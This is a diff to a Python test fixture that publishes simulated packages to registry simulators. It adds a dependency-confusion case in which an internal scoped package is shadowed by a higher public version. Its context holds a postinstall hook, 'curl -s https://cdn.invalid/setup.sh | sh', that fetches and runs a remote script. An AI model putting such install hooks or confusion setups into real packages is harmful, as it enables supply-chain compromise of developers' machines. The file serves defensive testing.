@@ -11,7 +11,10 @@ from pathlib import Path
 from tests.end_to_end.run import Machine
 from tests.registry_simulator import Published, RegistrySimulator
 
+#: Only the internal registry is asked for it; someone published the name in the public one, too.
+INTERNAL = "@corp/own-thing"
 FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}
+EMPTY: dict[str, object] = {"name": "shop", "version": "1.0.0", "private": True}
 #: What a project asks for, and everything of it passes in some version.
 WANTED: dict[str, object] = {
     "name": "shop",
@@ -59,8 +62,9 @@ class Shop:
         return [self.published[name] for name in names]
 
 
-def open_shop(registry: RegistrySimulator) -> Shop:
+def open_shop(registry: RegistrySimulator, internal: RegistrySimulator) -> Shop:
     """Publish everything."""
+    registry.publish(INTERNAL, "9.9.9", files={"index.js": "module.exports = 'not ours';\n"})
     bins: dict[str, object] = {"bin": {"tool-thing": "cli.js"}}
     cli = {"cli.js": "#!/usr/bin/env node\nconsole.log('the tool ran');\n"}
     inner = {"node_modules/inner-thing/package.json": '{"name": "inner-thing", "version": "5.0.0"}'}
@@ -81,6 +85,7 @@ def open_shop(registry: RegistrySimulator) -> Shop:
         registry.publish("malware-thing", "1.0.0", files=cli, manifest={"bin": {"malware-thing": "cli.js"}}),
         registry.publish("fetching-thing", "1.0.0", manifest=FETCHES),
         registry.publish("confused-thing", "1.0.0", manifest=FETCHES, registry_manifest={}),
+        internal.publish(INTERNAL, "1.0.0", files={"index.js": "module.exports = 'ours';\n"}),
         registry.publish("git-thing", "1.0.0", manifest={"dependencies": {"x": "git+https://git.acme.invalid/x.git"}}),
     ]
     return Shop({f"{each.name}@{each.version}": each for each in published})
